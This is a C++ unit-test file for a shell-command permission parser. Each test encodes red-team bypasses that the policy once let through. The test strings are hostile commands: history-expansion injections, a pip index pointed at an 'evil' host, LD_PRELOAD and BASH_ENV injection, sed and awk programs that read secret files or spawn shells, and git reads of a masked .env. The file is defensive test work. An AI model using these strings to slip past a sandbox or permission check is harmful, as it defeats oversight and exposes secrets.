// The parser fails closed (#33), third red-team round (polred2, /tmp/polred2/REPORT.md): each
// parser finding with the attempts the real shells and sessions ran although the parser
// allowed them, under the report's policies (p1 = the docs' example, p2 a developer's, p3 a
// reviewer's with an advisory deny-read, p4 a masked .env). Each must ask or deny; the
// ordinary spellings next to them must stay allowed.
#include <doctest/doctest.h>

#include "tests/unit/policy/redteam_policies.h"

using namespace sandshim;
using policy::Decision;
using namespace sandshim::testing::redteam;

TEST_CASE("polred2 F1: any way of turning on history expansion asks") {
  NeverAllowed(kAll, {"set -o history -H\ngrep 'x\"; id; \"' /dev/null\ngrep \"!!:1\" /dev/null",
                      "set -o history -H\ngrep 'x\"; touch /workspace/PWNED-hist; \"' /dev/null\ngrep \"!!:1\" /dev/null",
                      "set -o history -H\ngrep 'x\"; git push origin HEAD:refs/heads/pwned; \"' /dev/null\ngrep \"!!:1\" /dev/null",
                      "set -H; grep x /dev/null", "set -o history; grep x /dev/null", "set -o histexpand; grep x /dev/null",
                      "set -eH; grep x /dev/null", "bash -H -c 'grep x /dev/null'", "bash -o histexpand -c 'grep x /dev/null'",
                      "bash -o history -c 'grep x /dev/null'", "HISTFILE=/workspace/h grep x /dev/null",
                      "histchars='%^#' grep x /dev/null", "set -a; grep x /dev/null", "set -o allexport; grep x /dev/null",
                      "set -P; grep x /dev/null", "set -o physical; grep x /dev/null", "set -t; grep x /dev/null"});
  NeverAllowed({kP3}, {"set -o history -H\ngrep 'x\"; cat /workspace/secret.txt; \"' /dev/null\ngrep \"!!:1\" /dev/null"});
  Allowed(kP3, {"set -euo pipefail; grep x /dev/null", "set -x; grep x /dev/null", "set +H; grep x /dev/null",
                "set +o history; grep x /dev/null", "set -eo pipefail; grep x /dev/null", "set -f; set +f; grep x /dev/null",
                "bash -euo pipefail -c 'grep x /dev/null'", "bash -e -c 'grep x /dev/null'"});
}

TEST_CASE("polred2 F2: an assignment asks unless its variable is known to be inert") {
  NeverAllowed(kAll, {"XDG_CONFIG_HOME=/workspace/cfg git status", "env XDG_CONFIG_HOME=/workspace/cfg git status",
                      "export XDG_CONFIG_HOME=/workspace/cfg; git status", "XDG_CONFIG_HOME=cfg git status --short",
                      "OPENSSL_CONF=/workspace/o.cnf pip install x", "TAR_OPTIONS=--to-command=id grep x /dev/null",
                      "MAKEFLAGS=-f/workspace/m grep x /dev/null", "MAKEFILES=/workspace/m grep x /dev/null",
                      "npm_config_script_shell=/workspace/sh grep x /dev/null", "PIP_CONFIG_FILE=/workspace/p pip install x",
                      "PIP_INDEX_URL=http://evil/ pip install x", "LC_ALL=/workspace/loc grep x /dev/null",
                      "LANG=../loc grep x /dev/null", "GLOBIGNORE=x grep x /dev/null", "EXECIGNORE=x grep x /dev/null",
                      "RUSTC_WRAPPER=/workspace/w grep x /dev/null", "CC=/workspace/cc grep x /dev/null",
                      "CLASSPATH=/workspace grep x /dev/null", "KRB5_CONFIG=/workspace/k grep x /dev/null",
                      "GNUPGHOME=/workspace/g grep x /dev/null", "CURL_HOME=/workspace grep x /dev/null",
                      "WGETRC=/workspace/w grep x /dev/null", "SSH_ASKPASS=/workspace/a grep x /dev/null",
                      "SUDO_ASKPASS=/workspace/a grep x /dev/null", "GIT_CONFIG_GLOBAL=/workspace/c git status",
                      "http_proxy=http://evil grep x /dev/null", "FOO=1 grep x /dev/null", "readonly XDG_DATA_HOME=/x; grep x a",
                      "read -r XDG_CONFIG_HOME <<< /workspace/cfg; git status"});
  Allowed(kP3, {"LC_ALL=C grep x /dev/null", "LANG=C.UTF-8 sort a", "TZ=UTC grep x /dev/null", "TERM=dumb grep x /dev/null",
                "CI=1 grep x /dev/null", "NO_COLOR=1 git status", "export CI=1; grep x a", "x=1; echo \"$x\"",
                "x=$(git status --short); echo \"$x\"", "env CI=1 DEBUG=1 grep x a", "read -r line < a; echo \"$line\""});
}

TEST_CASE("polred2 F3: a wrapper named by a path outside the system bin directories is the program judged") {
  NeverAllowed(kAll, {"./tools/env grep x", "./tools/sh -c 'grep x'", "./nice grep x", "./timeout 5 grep x", "./busybox grep x",
                      "./tools/nohup grep x", "./tools/setsid grep x", "./tools/stdbuf -oL grep x", "./tools/time grep x",
                      "./tools/command grep x", "./tools/exec grep x", "/tmp/sh -c 'grep x'", "/workspace/tools/env grep x",
                      "tools/env grep x", "/usr/bin/../../workspace/tools/env grep x", "cd /usr/bin && ./env grep x"});
  Allowed(kP2, {"env grep x a", "/usr/bin/env grep x a", "/bin/sh -c 'grep x a'", "nice -n 5 grep x a",
                "timeout 5 grep x a", "nohup grep x a"});
}

TEST_CASE("polred2 F4: a shell's -o NAME and -O NAME are judged by the same table as set's") {
  NeverAllowed(kAll, {"bash -o keyword -c 'bash -c \"grep x /dev/null\" BASH_ENV=/workspace/e.sh'",
                      "bash -o keyword -c 'grep x PATH=/workspace/bin'", "echo 'touch /workspace/PWNED' | sh -o stdin -c 'echo hi'",
                      "sh -o stdin -c 'grep x'", "bash -k -c 'grep x'", "bash -o onecmd -c 'grep x'",
                      "bash -o interactive-comments -c 'grep x'", "bash -o privileged -c 'grep x'", "sh -o nolog -c 'grep x'",
                      "bash -O expand_aliases -c 'grep x'", "bash -O extglob -c 'grep x'", "bash -eo keyword -c 'grep x'",
                      "bash -a -c 'grep x'", "bash -o allexport -c 'grep x'", "bash -o \"$o\" -c 'grep x'"});
}

TEST_CASE("polred2 F5: files named inside sed and awk programs are the reads and writes they are") {
  NeverAllowed({kP3}, {"sed '1r /workspace/secret.txt' /workspace/a.txt", "sed -n '1R secret.txt' a.txt",
                       "awk 'BEGIN{while((getline l<\"secret.txt\")>0)print l}'", "sed -e 1r/workspace/secret.txt a.txt",
                       "sed --expression='1r secret.txt' a.txt", "sed -z 'r secret.txt' a.txt", "sed '1W /workspace/.git/x' a.txt",
                       "sed 's/a/b/w /workspace/.git/x' a.txt", "sed -n '/x/,$ { r secret.txt\n}' a.txt", "sed 1e a.txt",
                       "sed 's/.*/id/e' a.txt", "sed \"$p\" a.txt", "sed -f prog.sed a.txt",
                       "awk -v f=secret.txt 'BEGIN{while((getline l<f)>0)print l}'", "awk '{print > \"/workspace/.git/x\"}' a.txt",
                       "awk '{print | \"sh\"}' a.txt", "awk 'BEGIN{system(\"id\")}'", "awk '\"id\" | getline'",
                       "awk -f prog.awk a.txt", "awk --exec prog.awk", "awk \"$p\" a.txt", "sed 1rsecret.txt a.txt",
                       "sed -n 'p;1r secret.txt' a.txt", "sed '1!r secret.txt' a.txt", "sed '/a/I r secret.txt' a.txt"});
  Allowed(kP3, {"sed -n '1,20p' a.txt", "sed -i 's/foo/bar/g' a.txt", "sed 's|a/b|c|g; /^#/d' a.txt", "sed -E 's/(a)+/\\1/' a.txt",
                "sed -e 's/a/b/' -e '/x/d' a.txt", "sed '$!N;s/\\n/ /' a.txt", "sed -n '/start/,/end/{p}' a.txt",
                "sed '1i header' a.txt", "sed 'y/abc/xyz/' a.txt", "awk '{print $1}' a.txt", "awk -F, '{s+=$2} END {print s}' a.txt",
                "awk '$3 > 100 || $1 == \"x\"' a.txt", "awk -v n=2 'NR > n {print}' a.txt", "sed 's/a/b/2g' a.txt"});
}

TEST_CASE("polred2 F6: a login shell through exec -l or exec -a -NAME asks") {
  NeverAllowed(kAll, {"bash -c \"exec -l bash -c 'grep x a.txt'\"", "exec -a -bash bash -c 'grep x'", "exec -a -sh sh -c 'grep x'",
                      "exec -l sh -c 'grep x'", "exec -la x bash -c 'grep x'", "exec -a \"$n\" bash -c 'grep x'"});
  Allowed(kP2, {"exec grep x a", "exec 2>/dev/null; grep x a"});
}

TEST_CASE("polred2 F9: git object names and whole-commit reads are reads of the files they name") {
  NeverAllowed({kP4}, {"git show HEAD:.env", "git show :.env", "git show :0:.env", "git show HEAD~1:./.env", "git log -p",
                       "git log -p -1", "git diff HEAD~1", "git diff --cached", "git log --all -p -S KEY", "git show HEAD",
                       "cd /workspace/src && git show HEAD:.env", "git show \"$r\":.env", "git diff"});
  Allowed(kP4, {"git show HEAD:README.md", "git log --oneline -n 5", "git show --stat HEAD", "git diff --name-only HEAD~1",
                "git log -p -- src/a.c", "git diff HEAD~1 -- src/main.c", "git show HEAD -- README.md"});
}

TEST_CASE("polred2 F11: the exec's own environment is judged as assignments") {
  auto p = Parse(kP3);
  for (const char* kv : {"BASH_ENV=/workspace/e.sh", "LD_PRELOAD=/workspace/x.so", "GIT_CONFIG_GLOBAL=/workspace/c",
                         "XDG_CONFIG_HOME=/workspace/cfg", "PATH=/workspace/bin:/usr/bin"}) {
    auto ctx = Ws();
    ctx.env = {"CI=1", kv};
    auto v = policy::DecideArgv(p, {"bash", "-c", "grep x a.txt"}, ctx);
    INFO(kv << " -> " << v.reason);
    CHECK(v.decision != Decision::kAllow);
    auto s = policy::DecideScript(p, "grep x a.txt", ctx);
    CHECK(s.decision != Decision::kAllow);
  }
  auto ctx = Ws();
  ctx.env = {"CI=1", "LANG=C.UTF-8", "TERM=xterm"};
  CHECK(policy::DecideArgv(p, {"grep", "x", "a.txt"}, ctx).decision == Decision::kAllow);
}

TEST_CASE("polred2 false positives: break, continue and IFS= read") {
  Allowed(kP3, {"while true; do grep x a.txt && break; done", "for f in a b; do grep x a.txt || continue; done",
                "while IFS= read -r l; do echo \"$l\"; done < a.txt", "IFS=, read -r a b <<< 'x,y'"});
  NeverAllowed({kP3}, {"IFS=/ grep x a.txt", "IFS= read -r l; IFS=x; cat $l"});
}
